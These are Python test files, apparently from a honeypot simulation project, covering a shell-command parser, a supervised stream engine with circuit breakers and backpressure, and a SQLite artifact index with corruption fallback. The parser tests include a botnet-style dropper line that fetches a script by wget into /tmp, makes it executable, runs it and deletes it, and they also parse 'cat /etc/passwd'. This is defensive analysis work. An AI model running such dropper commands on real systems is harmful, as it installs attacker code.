        assert statement.pipeline.stages[0].argv == ["cat", "/etc/passwd"]


class TestAssignments:
    def test_leading_assignment(self):
        (statement,) = parse_line("VAR=1 uname")
        stage = statement.pipeline.stages[0]
        assert stage.assignments == [("VAR", "1")]
        assert stage.argv == ["uname"]

    def test_bare_assignment(self):
        (statement,) = parse_line("VAR=value")
        stage = statement.pipeline.stages[0]
        assert stage.assignments == [("VAR", "value")]
        assert stage.argv == []

    def test_assignment_after_command_is_argument(self):
        (statement,) = parse_line("dd bs=22 count=1")
        assert statement.pipeline.stages[0].argv == ["dd", "bs=22", "count=1"]


class TestRobustness:
    @given(st.text(alphabet=st.characters(codec="ascii"), max_size=120))
    @settings(max_examples=200)
    def test_never_crashes_beyond_parse_error(self, line):
        try:
            parse_line(line)
        except ParseError:
            pass

    def test_real_attack_line(self):
        line = (
            "cd /tmp || cd /var/run || cd /mnt; "
            "wget http://1.2.3.4/bins.sh -O bins.sh; chmod 777 bins.sh; "
            "./bins.sh; rm -rf bins.sh"
        )
        names = [argv[0] for argv in argvs(line)]
        assert names == [
            "cd", "cd", "cd", "wget", "chmod", "./bins.sh", "rm",
        ]
