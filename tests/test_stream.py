"""Stream engine: replay differential, supervision, fault determinism.

Four layers of proof that the stream refactor cannot move a byte and
that its robustness layer is deterministic:

* **Replay differential** — a *supervised* fault-free stream produces
  digests, conservation accounting and checkpoint bytes identical to
  the batch engines across {none, paper, stress} × {flood off, burst}
  × {serial, 2 workers}.  (The serial batch engine itself *is* the
  stream engine under ``StreamPolicy.replay`` — one code path.)
* **Seeded fault determinism** — under the ``chaos`` stream fault
  domain, the same seed reproduces the same breaker and mode-ladder
  transition timelines, the same digests, and a mid-run interrupt
  resumes to the identical final digest.
* **Checkpoint stream section** — degraded supervision state rides the
  checkpoint as an optional checksummed section: tampering is caught,
  pristine checkpoints stay byte-identical to batch checkpoints, and
  the batch engines refuse to resume a degraded stream checkpoint.
* **Properties** (hypothesis) — queue-depth-driven backpressure keeps
  the extended conservation law (``admitted == stored + deduplicated``
  with terminal shed/defer buckets), shedding verdicts under critical
  pressure are order-independent, and the breaker state machine is
  internally consistent and seed-deterministic.

Marked ``stream`` so CI can run this suite as its own job leg
(``pytest -m stream``).
"""

from __future__ import annotations

import dataclasses
import json
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro import telemetry
from repro.attackers.orchestrator import run_simulation
from repro.faults.checkpoint import (
    load_latest_checkpoint,
    save_checkpoint,
)
from repro.faults.plan import FloodFaults
from repro.faults.stream import StreamFaults, compile_day_plan
from repro.honeynet.collector import Collector
from repro.honeypot.session import CommandRecord
from repro.overload.admission import (
    ADMIT,
    DEFER,
    PRESSURE_CRITICAL,
    PRESSURE_HIGH,
    PRESSURE_NONE,
    SHED,
    AdmissionController,
)
from repro.stream import (
    CLOSED,
    HALF_OPEN,
    LEVEL_CRITICAL,
    LEVEL_HIGH,
    LEVEL_OK,
    MODE_ANALYSIS_DEFERRED,
    MODE_FULL,
    MODE_RANK,
    MODE_SHED_ONLY,
    OPEN,
    BoundedStreamQueue,
    CircuitBreaker,
    HeartbeatMonitor,
    StreamPolicy,
    StreamSupervisor,
    run_stream,
)
from repro.overload.watchdog import DeadlinePolicy
from repro.util.rng import RngTree
from tests.conftest import PROFILES, make_record, short_fault_config
from tests.test_parallel import assert_equivalent

pytestmark = pytest.mark.stream

FLOODS = ("off", "burst")
MATRIX = [
    (profile, flood) for profile in PROFILES for flood in FLOODS
]


def matrix_config(profile: str, flood: str):
    config = short_fault_config(profile)
    if flood == "off":
        return config
    return config.replace(
        faults=dataclasses.replace(
            config.faults, flood=FloodFaults.from_name(flood)
        )
    )


@pytest.fixture(scope="module")
def batch_runs():
    """Serial batch reference runs for the full matrix (read-only)."""
    return {key: run_simulation(matrix_config(*key)) for key in MATRIX}


@pytest.fixture(scope="module")
def stream_runs():
    """Supervised fault-free stream runs for the full matrix."""
    return {
        key: run_stream(matrix_config(*key), policy=StreamPolicy.live())
        for key in MATRIX
    }


def chaos_config():
    return matrix_config("stress", "burst")


@pytest.fixture(scope="module")
def chaos_run():
    """One chaos-supervised run on the harshest matrix cell."""
    return run_stream(chaos_config(), policy=StreamPolicy.chaos())


# ----------------------------------------------------------------------
# replay differential: stream ≡ batch, serial and parallel
# ----------------------------------------------------------------------


class TestStreamReplayDifferential:
    @pytest.mark.parametrize("key", MATRIX, ids=lambda k: "-".join(k))
    def test_supervised_stream_equals_serial_batch(
        self, batch_runs, stream_runs, key
    ):
        stream = stream_runs[key]
        assert_equivalent(stream, batch_runs[key])
        # Fault-free supervision never leaves the healthy rung.
        assert stream.stream is not None
        assert stream.stream.mode == MODE_FULL
        assert stream.stream.transitions == []
        assert stream.stream.ledger_days == stream.stream.days

    @pytest.mark.parametrize("key", MATRIX, ids=lambda k: "-".join(k))
    def test_two_workers_equal_supervised_stream(self, stream_runs, key):
        parallel = run_simulation(matrix_config(*key), workers=2)
        assert_equivalent(parallel, stream_runs[key])

    def test_batch_serial_result_has_no_stream_report(self, batch_runs):
        for result in batch_runs.values():
            assert result.stream is None

    def test_checkpoint_bytes_identical(self, tmp_path):
        """Same day, same state ⇒ byte-identical checkpoint files."""
        config = chaos_config()
        stop = date(2023, 10, 1)
        batch_ckpt = tmp_path / "batch" / "ck.json"
        stream_ckpt = tmp_path / "stream" / "ck.json"
        run_simulation(
            config, checkpoint_path=batch_ckpt, checkpoint_every_days=7,
            stop_after=stop,
        )
        run_stream(
            config, policy=StreamPolicy.live(),
            checkpoint_path=stream_ckpt, checkpoint_every_days=7,
            stop_after=stop,
        )
        assert batch_ckpt.read_bytes() == stream_ckpt.read_bytes()

    def test_telemetry_comparable_view_matches_batch(self):
        """Counters outside ``stream.*`` agree between the engines."""
        config = short_fault_config("paper")
        with telemetry.collecting() as registry:
            run_simulation(config)
        batch_export = registry.export()
        with telemetry.collecting() as registry:
            run_stream(config, policy=StreamPolicy.live())
        stream_export = registry.export()
        assert telemetry.comparable_view(
            batch_export
        ) == telemetry.comparable_view(stream_export)
        # Span parity: the supervised loop is the same loop.
        assert (
            stream_export["spans"]["sim.run/sim.day"]["count"]
            == batch_export["spans"]["sim.run/sim.day"]["count"]
        )
        # Supervision emits its own engine-class counters, but they are
        # merge-only: none survive into the comparable view.
        assert stream_export["counters"]["stream.days"] > 0
        comparable = telemetry.comparable_view(stream_export)
        assert not any(
            name.startswith("stream.") for name in comparable["counters"]
        )


# ----------------------------------------------------------------------
# seeded stream faults: determinism + the full ladder
# ----------------------------------------------------------------------


class TestStreamFaultDeterminism:
    def test_same_seed_same_timelines(self, chaos_run):
        again = run_stream(chaos_config(), policy=StreamPolicy.chaos())
        assert again.database.digest() == chaos_run.database.digest()
        assert (
            again.collector.accounting() == chaos_run.collector.accounting()
        )
        assert again.stream.transitions == chaos_run.stream.transitions
        assert (
            again.stream.breaker_transitions
            == chaos_run.stream.breaker_transitions
        )

    def test_chaos_exercises_the_ladder(self, chaos_run):
        report = chaos_run.stream
        assert report.stalls > 0
        assert report.skew_days > 0
        assert report.analysis_errors > 0
        assert report.partition_buffered == report.partition_replayed > 0
        modes_hit = {t.to_mode for t in report.transitions}
        assert MODE_ANALYSIS_DEFERRED in modes_hit
        assert MODE_SHED_ONLY in modes_hit
        reasons = {t.reason for t in report.transitions}
        assert "queue-critical" in reasons or "heartbeat-hard" in reasons

    def test_conservation_holds_under_chaos(self, chaos_run):
        collector = chaos_run.collector
        assert collector.accounting_balanced()
        assert collector.admitted == (
            len(collector.sessions) + collector.deduplicated
        )
        assert chaos_run.stream.ledger_days == chaos_run.stream.days

    def test_mode_timeline_counters_emitted(self):
        with telemetry.collecting() as registry:
            result = run_stream(
                chaos_config(), policy=StreamPolicy.chaos()
            )
        counters = registry.export()["counters"]
        transitions = result.stream.transitions
        assert counters["stream.mode.transitions"] == len(transitions)
        for transition in transitions:
            name = (
                f"stream.mode.timeline.{transition.day}."
                f"{transition.from_mode}->{transition.to_mode}."
                f"{transition.reason}"
            )
            assert counters[name] >= 1

    def test_day_plans_compose_independently(self):
        """Each fault kind draws its own stream: adding one knob never
        moves another's decisions."""
        sensors = tuple(f"hp-{i:03d}" for i in range(6))
        tree = RngTree(7).child("stream", "faults")
        day = date(2023, 10, 2)
        chaos = StreamFaults.from_name("chaos")
        stall_only = StreamFaults(
            stall_probability=chaos.stall_probability,
            stall_virtual_s=chaos.stall_virtual_s,
        )
        full_plan = compile_day_plan(chaos, tree, day, sensors)
        stall_plan = compile_day_plan(stall_only, tree, day, sensors)
        assert full_plan.stall_at_event == stall_plan.stall_at_event
        assert stall_plan.partitioned == frozenset()
        assert stall_plan.error_at_event is None


class TestStreamInterruptResume:
    def test_interrupt_resume_reaches_identical_digest(
        self, tmp_path, chaos_run
    ):
        ckpt = tmp_path / "ck.json"
        run_stream(
            chaos_config(), policy=StreamPolicy.chaos(),
            checkpoint_path=ckpt, checkpoint_every_days=5,
            stop_after=date(2023, 10, 1),
        )
        resumed = run_stream(
            chaos_config(), policy=StreamPolicy.chaos(),
            checkpoint_path=ckpt, resume=True,
        )
        assert resumed.database.digest() == chaos_run.database.digest()
        assert (
            resumed.collector.accounting()
            == chaos_run.collector.accounting()
        )
        assert resumed.stream.mode == chaos_run.stream.mode

    @pytest.fixture()
    def degraded_checkpoint(self, tmp_path):
        ckpt = tmp_path / "ck.json"
        run_stream(
            chaos_config(), policy=StreamPolicy.chaos(),
            checkpoint_path=ckpt, checkpoint_every_days=5,
            stop_after=date(2023, 10, 1),
        )
        loaded, rejected = load_latest_checkpoint(ckpt, chaos_config())
        assert loaded is not None and loaded.stream is not None
        return ckpt

    def test_batch_replay_refuses_degraded_checkpoint(
        self, degraded_checkpoint
    ):
        with pytest.raises(ValueError, match="degraded stream state"):
            run_simulation(
                chaos_config(),
                checkpoint_path=degraded_checkpoint,
                resume=True,
            )

    def test_parallel_engine_refuses_degraded_checkpoint(
        self, degraded_checkpoint
    ):
        with pytest.raises(ValueError, match="parallel batch engine"):
            run_simulation(
                chaos_config(),
                workers=2,
                checkpoint_path=degraded_checkpoint,
                resume=True,
            )

    def test_mismatched_fault_profile_refused(self, degraded_checkpoint):
        with pytest.raises(
            ValueError, match="different stream fault configuration"
        ):
            run_stream(
                chaos_config(), policy=StreamPolicy.live(),
                checkpoint_path=degraded_checkpoint, resume=True,
            )


# ----------------------------------------------------------------------
# checkpoint stream section
# ----------------------------------------------------------------------


class TestStreamCheckpointSection:
    def test_pristine_supervised_checkpoint_has_no_stream_section(
        self, tmp_path
    ):
        config = matrix_config("none", "off")
        ckpt = tmp_path / "ck.json"
        run_stream(
            config, policy=StreamPolicy.live(),
            checkpoint_path=ckpt, checkpoint_every_days=7,
            stop_after=date(2023, 10, 1),
        )
        document = json.loads(ckpt.read_text())
        assert "stream" not in document
        assert "stream" not in document["checksums"]

    def test_tampered_stream_section_is_rejected(self, tmp_path):
        ckpt = tmp_path / "ck.json"
        run_stream(
            chaos_config(), policy=StreamPolicy.chaos(),
            checkpoint_path=ckpt, checkpoint_every_days=5,
            stop_after=date(2023, 10, 1),
        )
        document = json.loads(ckpt.read_text())
        assert "stream" in document
        document["stream"]["mode"] = MODE_FULL  # the tamper
        ckpt.write_text(json.dumps(document))
        for generation in Path(ckpt).parent.glob("ck.json.*"):
            generation.unlink()  # leave only the tampered file
        loaded, rejected = load_latest_checkpoint(ckpt, chaos_config())
        assert loaded is None
        assert rejected and "stream" in rejected[0]

    def test_stream_state_round_trips_through_save(self, tmp_path):
        config = matrix_config("none", "off")
        result = run_simulation(config)
        payload = {"mode": MODE_SHED_ONLY, "transitions": [], "breakers": {}}
        ckpt = tmp_path / "ck.json"
        save_checkpoint(
            ckpt, config, config.end, result.honeynet, result.collector,
            stream_state=payload,
        )
        loaded, rejected = load_latest_checkpoint(ckpt, config)
        assert rejected == []
        assert loaded.stream == payload


# ----------------------------------------------------------------------
# hypothesis properties: backpressure ↔ admission conservation
# ----------------------------------------------------------------------


def _gate(budget=4, queue_capacity=64, shed_probability=0.5):
    return AdmissionController(
        budget=budget,
        queue_capacity=queue_capacity,
        shed_probability=shed_probability,
        tree=RngTree(5).child("gate"),
    )


def _records(specs):
    """Build records from (priority, session_ordinal, sensor) specs."""
    out = []
    for index, (priority, ordinal, sensor) in enumerate(specs):
        record = make_record(
            float(index), f"s-{ordinal}", f"hp-{sensor:03d}"
        )
        if priority >= 1:
            record.commands.append(CommandRecord(raw="uname -a", known=True))
        out.append(record)
    return out


record_specs = st.lists(
    st.tuples(
        st.integers(min_value=0, max_value=1),  # priority class
        st.integers(min_value=0, max_value=49),  # session id (dups ok)
        st.integers(min_value=0, max_value=3),  # sensor
    ),
    max_size=60,
)

pressure_levels = st.sampled_from(
    (PRESSURE_NONE, PRESSURE_HIGH, PRESSURE_CRITICAL)
)


class TestBackpressureAdmissionProperties:
    @given(specs=record_specs, schedule=st.lists(pressure_levels, max_size=6))
    @settings(max_examples=60, deadline=None)
    def test_extended_conservation_law(self, specs, schedule):
        """Queue-depth-driven shedding keeps the collector's books
        balanced: ``admitted == stored + deduplicated`` with every
        non-admitted record in a terminal shed bucket."""
        collector = Collector(admission=_gate())
        records = _records(specs)
        pressure = iter(schedule)
        for index, record in enumerate(records):
            if index % 7 == 3:
                level = next(pressure, None)
                if level is not None:
                    collector.admission.apply_backpressure(level)
            collector.ingest(record)
        collector.end_of_day()
        assert collector.accounting_balanced()
        assert collector.admitted == (
            len(collector.sessions) + collector.deduplicated
        )
        accounting = collector.accounting()
        assert accounting["generated"] == len(records)

    @given(specs=record_specs, seed=st.integers(min_value=0, max_value=9))
    @settings(max_examples=40, deadline=None)
    def test_critical_pressure_verdicts_are_order_independent(
        self, specs, seed
    ):
        """With a zero effective budget and roomy deferral queues, every
        verdict is a pure function of the record — any arrival order
        produces the same per-record verdict."""
        records = _records(specs)
        forward = _gate()
        forward.apply_backpressure(PRESSURE_CRITICAL)
        verdicts = {
            id(record): forward.offer(record) for record in records
        }
        import random as _random

        shuffled = list(records)
        _random.Random(seed).shuffle(shuffled)
        gate = _gate()
        gate.apply_backpressure(PRESSURE_CRITICAL)
        for record in shuffled:
            assert gate.offer(record) == verdicts[id(record)]

    def test_pressure_levels_shrink_the_budget(self):
        gate = _gate(budget=4)
        gate.apply_backpressure(PRESSURE_HIGH)
        verdicts = [
            gate.offer(make_record(float(i), f"s-{i}")) for i in range(4)
        ]
        assert verdicts.count(ADMIT) == 2  # budget // 2
        gate.apply_backpressure(PRESSURE_CRITICAL)
        assert gate.offer(make_record(9.0, "s-z")) == SHED
        gate.apply_backpressure(PRESSURE_NONE)
        gate.drain()
        verdicts = [
            gate.offer(make_record(float(i), f"t-{i}")) for i in range(5)
        ]
        assert verdicts.count(ADMIT) == 4  # full budget restored

    def test_unknown_pressure_level_rejected(self):
        with pytest.raises(ValueError, match="backpressure level"):
            _gate().apply_backpressure(7)

    def test_drain_does_not_reset_pressure(self):
        """The stream engine owns pressure release; the day boundary
        resets only the budget."""
        gate = _gate(budget=4)
        gate.apply_backpressure(PRESSURE_CRITICAL)
        record = make_record(0.0, "s-0")
        record.commands.append(CommandRecord(raw="ls", known=True))
        assert gate.offer(record) in (SHED, DEFER)
        gate.drain()
        assert gate.offer(make_record(1.0, "s-1")) == SHED


# ----------------------------------------------------------------------
# hypothesis properties: breaker, queue, ladder, heartbeats
# ----------------------------------------------------------------------


breaker_ops = st.lists(
    st.sampled_from(("fail", "ok", "trip", "wait")), max_size=40
)


def _drive_breaker(seed, ops):
    breaker = CircuitBreaker(
        stage="ingest", tree=RngTree(seed).child("breaker"),
        failure_threshold=2, recovery_s=2.0, max_backoff_s=16.0,
    )
    now = 0.0
    for index, op in enumerate(ops):
        now += 1.0
        if op == "wait":
            now += 5.0
            breaker.allow(now, 1, index)
        elif op == "trip":
            breaker.trip(now, 1, index, "heartbeat-hard")
        elif breaker.allow(now, 1, index):
            if op == "fail":
                breaker.record_failure(now, 1, index)
            else:
                breaker.record_success(now, 1, index)
    return breaker


class TestBreakerProperties:
    @given(seed=st.integers(min_value=0, max_value=99), ops=breaker_ops)
    @settings(max_examples=80, deadline=None)
    def test_state_machine_invariants(self, seed, ops):
        breaker = _drive_breaker(seed, ops)
        assert breaker.state in (CLOSED, OPEN, HALF_OPEN)
        # The transition chain is contiguous.
        for previous, transition in zip(
            breaker.transitions, breaker.transitions[1:]
        ):
            assert transition.from_state == previous.to_state
        # Every trip is a transition to OPEN, counted exactly.
        opens = [
            t for t in breaker.transitions if t.to_state == OPEN
        ]
        assert len(opens) == breaker.trips
        # An open breaker always has a scheduled probe.
        if breaker.state == OPEN:
            assert breaker.probe_at is not None

    @given(seed=st.integers(min_value=0, max_value=99), ops=breaker_ops)
    @settings(max_examples=40, deadline=None)
    def test_same_seed_same_timeline(self, seed, ops):
        first = _drive_breaker(seed, ops)
        second = _drive_breaker(seed, ops)
        assert first.transitions == second.transitions
        assert first.snapshot() == second.snapshot()

    @given(seed=st.integers(min_value=0, max_value=99), ops=breaker_ops)
    @settings(max_examples=40, deadline=None)
    def test_snapshot_restore_round_trip(self, seed, ops):
        breaker = _drive_breaker(seed, ops)
        clone = CircuitBreaker(
            stage="ingest", tree=RngTree(seed).child("breaker"),
            failure_threshold=2, recovery_s=2.0, max_backoff_s=16.0,
        )
        clone.restore(breaker.snapshot())
        assert clone.snapshot() == breaker.snapshot()
        assert clone.dirty == breaker.dirty


class TestQueueProperties:
    @given(
        ops=st.lists(st.sampled_from(("push", "pop")), max_size=50),
        capacity=st.integers(min_value=1, max_value=8),
    )
    @settings(max_examples=80, deadline=None)
    def test_fifo_bounds_and_levels(self, ops, capacity):
        queue = BoundedStreamQueue(
            name="q", capacity=capacity,
            high_watermark=max(1, capacity // 2),
        )
        model: list[int] = []
        for index, op in enumerate(ops):
            if op == "push" and not queue.full:
                queue.push(index)
                model.append(index)
            elif op == "pop" and queue.depth:
                assert queue.pop() == model.pop(0)
            assert queue.depth == len(model) <= capacity
            level = queue.level()
            if queue.full:
                assert level == LEVEL_CRITICAL
            elif queue.depth >= queue.high_watermark:
                assert level == LEVEL_HIGH
            else:
                assert level == LEVEL_OK
        assert queue.pushed - queue.popped == queue.depth
        assert queue.peak_depth <= capacity

    def test_push_past_capacity_raises(self):
        queue = BoundedStreamQueue(name="q", capacity=1, high_watermark=1)
        queue.push(1)
        with pytest.raises(OverflowError):
            queue.push(2)


def _supervisor():
    return StreamSupervisor.build(
        RngTree(3).child("stream"),
        queue_capacity=8,
        high_watermark=4,
        failure_threshold=2,
        recovery_s=2.0,
        max_backoff_s=16.0,
        heartbeat_policy=DeadlinePolicy.from_deadline(8.0),
    )


class TestSupervisorLadder:
    @given(
        moves=st.lists(
            st.sampled_from(
                (MODE_FULL, MODE_ANALYSIS_DEFERRED, MODE_SHED_ONLY)
            ),
            max_size=20,
        )
    )
    @settings(max_examples=60, deadline=None)
    def test_escalate_only_climbs(self, moves):
        supervisor = _supervisor()
        for index, mode in enumerate(moves):
            before = MODE_RANK[supervisor.mode]
            changed = supervisor.escalate(mode, "test", 1, index)
            after = MODE_RANK[supervisor.mode]
            assert after >= before
            assert changed == (after > before)
        # The transition log replays to the final mode.
        mode = MODE_FULL
        for transition in supervisor.transitions:
            assert transition.from_mode == mode
            mode = transition.to_mode
        assert mode == supervisor.mode

    def test_recover_steps_down_to_breaker_floor(self):
        supervisor = _supervisor()
        supervisor.escalate(MODE_SHED_ONLY, "queue-critical", 1, 1)
        supervisor.breakers["analysis"].trip(0.0, 1, 1, "analysis-error")
        assert supervisor.recovery_target() == MODE_ANALYSIS_DEFERRED
        assert supervisor.recover("day-boundary-recovery", 1, 2)
        assert supervisor.mode == MODE_ANALYSIS_DEFERRED
        supervisor.breakers["analysis"].state = CLOSED
        assert supervisor.recover("day-boundary-recovery", 1, 3)
        assert supervisor.mode == MODE_FULL

    def test_snapshot_restore_round_trip(self):
        supervisor = _supervisor()
        supervisor.escalate(MODE_ANALYSIS_DEFERRED, "analysis", 2, 5)
        supervisor.breakers["ingest"].trip(1.0, 2, 5, "queue-critical")
        clone = _supervisor()
        clone.restore(supervisor.snapshot())
        assert clone.snapshot() == supervisor.snapshot()
        assert clone.dirty

    def test_unknown_mode_rejected(self):
        supervisor = _supervisor()
        with pytest.raises(ValueError, match="unknown stream mode"):
            supervisor.set_mode("panic", "test", 1, 1)
        with pytest.raises(ValueError, match="unknown stream mode"):
            supervisor.restore({"mode": "panic"})


class TestHeartbeatEpisodes:
    def test_breaches_counted_once_per_episode(self):
        monitor = HeartbeatMonitor(DeadlinePolicy.from_deadline(8.0))
        monitor.reset(0.0)
        assert monitor.check("ingest", 1.0) is None
        assert monitor.check("ingest", 5.0) == "soft"
        assert monitor.check("ingest", 6.0) is None  # same episode
        assert monitor.check("ingest", 9.0) == "hard"
        assert monitor.check("ingest", 50.0) is None  # still hard
        monitor.beat("ingest", 50.0)
        assert monitor.check("ingest", 51.0) is None  # healthy again
        assert monitor.check("ingest", 60.0) == "hard"
        assert monitor.soft_breaches == 1
        assert monitor.hard_breaches == 2
