"""The indexed artifact store: build, query, corrupt, fall back, rebuild.

The load-bearing guarantees:

* the SQLite index answers exactly what a full scan of the shards
  answers — for every filter, on every backend path;
* enabling the store changes nothing: dataset digests, conservation
  accounting and checkpoint bytes are identical with and without a
  ``store_dir``, serial and parallel;
* every ``IndexCorruptor`` mode (bit-flipped page, truncated file,
  silently dropped rows) is detected before a wrong answer can escape,
  consumers degrade to the scan fallback with identical outputs, and
  ``repro verify --rebuild-index`` restores a clean audit.
"""

from __future__ import annotations

import json
import sqlite3
import threading
from datetime import date

import pytest

from repro import telemetry
from repro.attackers.orchestrator import run_simulation
from repro.faults.checkpoint import checkpoint_generations, config_fingerprint
from repro.faults.corruption import (
    INDEX_CORRUPTION_MODES,
    IndexCorruptor,
    build_index_corruptor,
    corrupt_index,
)
from repro.faults.plan import IntegrityFaults
from repro.honeynet.database import SessionDatabase
from repro.store import (
    ResilientArtifactStore,
    SqliteStore,
    StaleIndexError,
    StoreError,
    export_indexed_tree,
    index_path_for,
    load_tree_records,
    rebuild_index,
)
from repro.store.base import content_digest, index_rows, normalize_filters
from repro.util.rng import RngTree
from tests.conftest import PROFILES, make_record, short_fault_config


def records(count: int) -> list:
    return [
        make_record(1_600_000_000.0 + 7200 * i, session_id=f"s-{i:04d}")
        for i in range(count)
    ]


def make_tree(tmp_path, count=20):
    """A small indexed artifact tree; returns (root, sessions)."""
    sessions = records(count)
    export_indexed_tree(sessions, tmp_path)
    return tmp_path, sessions


class TestSqliteStore:
    def test_round_trip(self, tmp_path):
        root, sessions = make_tree(tmp_path)
        with SqliteStore.open(index_path_for(root)) as store:
            assert store.count() == len(sessions)
            assert store.session_ids() == sorted(
                s.session_id for s in sessions
            )
            meta = store.meta()
            assert meta.record_count == len(sessions)
            assert meta.content_digest == SessionDatabase(sessions).digest()
            by_day = store.count_by("day")
            assert sum(by_day.values()) == len(sessions)
            assert store.distinct("day") == sorted(by_day)
            one_day = store.distinct("day")[0]
            assert store.count(day=one_day) == by_day[one_day]

    def test_rows_carry_provenance(self, tmp_path):
        root, sessions = make_tree(tmp_path, count=5)
        with SqliteStore.open(index_path_for(root)) as store:
            rows = store.rows()
        assert [row.seq for row in rows] == list(range(5))
        assert all(row.source == "sessions.jsonl" for row in rows)
        assert all(row.rule_label for row in rows)

    def test_build_is_atomic(self, tmp_path):
        root, _ = make_tree(tmp_path)
        leftovers = list(root.glob("*.tmp"))
        assert leftovers == []

    def test_absent_index_raises(self, tmp_path):
        with pytest.raises(StoreError) as info:
            SqliteStore.open(tmp_path / "index.sqlite")
        assert info.value.reason == "absent"

    def test_stale_fingerprint_and_digest_detected(self, tmp_path):
        root, sessions = make_tree(tmp_path)
        path = index_path_for(root)
        with SqliteStore.open(path) as store:
            digest = store.meta().content_digest
        with pytest.raises(StaleIndexError) as info:
            SqliteStore.open(path, expected_fingerprint="deadbeef")
        assert info.value.reason == "fingerprint-mismatch"
        with pytest.raises(StaleIndexError) as info:
            SqliteStore.open(path, expected_digest="0" * 64)
        assert info.value.reason == "digest-mismatch"
        SqliteStore.open(path, expected_digest=digest).close()

    def test_unsupported_schema_version_rejected(self, tmp_path):
        root, _ = make_tree(tmp_path)
        path = index_path_for(root)
        with sqlite3.connect(path) as connection:
            connection.execute(
                "UPDATE store_meta SET value='99' WHERE key='schema_version'"
            )
        with pytest.raises(StoreError) as info:
            SqliteStore.open(path)
        assert info.value.reason == "unsupported-schema"

    def test_dropped_rows_detected_at_open(self, tmp_path):
        # A healthy-looking database that desynced from its meta must
        # never serve queries — that would be wrong answers, not slow ones.
        root, _ = make_tree(tmp_path)
        path = index_path_for(root)
        with sqlite3.connect(path) as connection:
            connection.execute(
                "DELETE FROM sessions WHERE rowid IN "
                "(SELECT rowid FROM sessions LIMIT 3)"
            )
        with pytest.raises(StoreError) as info:
            SqliteStore.open(path)
        assert info.value.reason == "row-count-mismatch"

    def test_filter_validation(self, tmp_path):
        root, _ = make_tree(tmp_path, count=3)
        with SqliteStore.open(index_path_for(root)) as store:
            with pytest.raises(ValueError, match="unknown index column"):
                store.count(bogus="x")
            with pytest.raises(ValueError, match="unknown index column"):
                store.count_by("bogus")

    def test_normalize_filters_coerces(self):
        from repro.honeypot.session import Protocol

        cleaned = normalize_filters(
            {"day": date(2023, 10, 8), "protocol": Protocol.SSH, "sensor_id": None}
        )
        assert cleaned == {"day": "2023-10-08", "protocol": "ssh"}


class TestIndexCorruptor:
    def test_zero_probability_is_inert(self, tmp_path):
        root, _ = make_tree(tmp_path)
        path = index_path_for(root)
        before = path.read_bytes()
        corruptor = IndexCorruptor(
            probability=0.0, tree=RngTree(1).child("index")
        )
        assert corruptor.maybe_corrupt(path, key=0) is None
        assert path.read_bytes() == before
        assert build_index_corruptor(IntegrityFaults(), RngTree(1)) is None

    def test_damage_is_deterministic(self, tmp_path):
        damaged = []
        for attempt in ("a", "b"):
            root = tmp_path / attempt
            root.mkdir()
            export_indexed_tree(records(20), root)
            corruptor = IndexCorruptor(
                probability=1.0, tree=RngTree(9).child("index")
            )
            mode = corruptor.maybe_corrupt(index_path_for(root), key=0)
            assert mode in INDEX_CORRUPTION_MODES
            damaged.append(index_path_for(root).read_bytes())
        assert damaged[0] == damaged[1]

    def test_unknown_mode_rejected(self):
        with pytest.raises(ValueError, match="unknown index corruption mode"):
            IndexCorruptor(probability=1.0, tree=RngTree(1), mode="nuke")

    @pytest.mark.parametrize("mode", INDEX_CORRUPTION_MODES)
    def test_every_mode_damages_and_scan_answers_survive(self, tmp_path, mode):
        root, sessions = make_tree(tmp_path)
        path = index_path_for(root)
        with SqliteStore.open(path) as store:
            clean_ids = store.session_ids()
            clean_by_day = store.count_by("day")
        corruptor = IndexCorruptor(
            probability=1.0, tree=RngTree(5).child("index"), mode=mode
        )
        assert corruptor.maybe_corrupt(path, key=0) == mode
        # The resilient wrapper must produce identical answers — from
        # the index if the damage happened to be benign, from the scan
        # fallback otherwise.  Either way: complete, correct, no crash.
        store = ResilientArtifactStore(root)
        assert store.session_ids() == clean_ids
        assert store.count_by("day") == clean_by_day
        assert store.source in ("index", "scan")
        store.close()


class TestResilientFallback:
    def test_healthy_index_is_used(self, tmp_path):
        root, sessions = make_tree(tmp_path)
        store = ResilientArtifactStore(root)
        assert store.count() == len(sessions)
        assert store.source == "index"
        assert store.fallback_reason is None
        store.close()

    def test_absent_index_falls_back_loudly(self, tmp_path):
        root, sessions = make_tree(tmp_path)
        index_path_for(root).unlink()
        with telemetry.collecting() as registry:
            store = ResilientArtifactStore(root)
            assert store.session_ids() == sorted(
                s.session_id for s in sessions
            )
            assert store.source == "scan"
            assert store.fallback_reason == "absent"
        assert registry.counters["store.fallback"] == 1
        assert registry.counters["store.fallback.absent"] == 1

    def test_garbage_index_falls_back_with_identical_answers(self, tmp_path):
        root, sessions = make_tree(tmp_path)
        with SqliteStore.open(index_path_for(root)) as clean:
            expected = {
                "ids": clean.session_ids(),
                "by_day": clean.count_by("day"),
                "days": clean.distinct("day"),
                "rows": clean.rows(),
            }
        index_path_for(root).write_bytes(b"not a database at all")
        store = ResilientArtifactStore(root)
        assert store.session_ids() == expected["ids"]
        assert store.count_by("day") == expected["by_day"]
        assert store.distinct("day") == expected["days"]
        assert store.rows() == expected["rows"]
        assert store.source == "scan"
        store.close()

    def test_stale_index_treated_as_damage(self, tmp_path):
        root, sessions = make_tree(tmp_path)
        store = ResilientArtifactStore(
            root, expected_fingerprint="not-this-config"
        )
        assert store.count() == len(sessions)  # scan, not the stale index
        assert store.source == "scan"
        assert store.fallback_reason == "fingerprint-mismatch"
        store.close()

    def test_database_matches_ground_truth(self, tmp_path):
        root, sessions = make_tree(tmp_path)
        store = ResilientArtifactStore(root)
        assert store.database().digest() == SessionDatabase(sessions).digest()
        store.close()
        loaded, lost = load_tree_records(root)
        assert lost == 0
        assert [r.session_id for r in loaded] == [
            s.session_id for s in sessions
        ]


class TestRebuild:
    def test_rebuild_restores_queryability(self, tmp_path):
        root, sessions = make_tree(tmp_path)
        path = index_path_for(root)
        path.write_bytes(b"garbage")
        rebuilt, rows = rebuild_index(root)
        assert rebuilt == path and rows == len(sessions)
        with SqliteStore.open(path) as store:
            assert store.session_ids() == sorted(
                s.session_id for s in sessions
            )
            assert store.meta().content_digest == SessionDatabase(
                sessions
            ).digest()

    def test_rebuild_without_shards_refuses(self, tmp_path):
        with pytest.raises(FileNotFoundError):
            rebuild_index(tmp_path)

    def test_rebuild_from_multiple_shards_dedups(self, tmp_path):
        sessions = records(10)
        export_indexed_tree(sessions, tmp_path, shard_name="a.jsonl")
        from repro.honeynet.io import write_jsonl

        # Second shard re-ships an overlapping slice (at-least-once
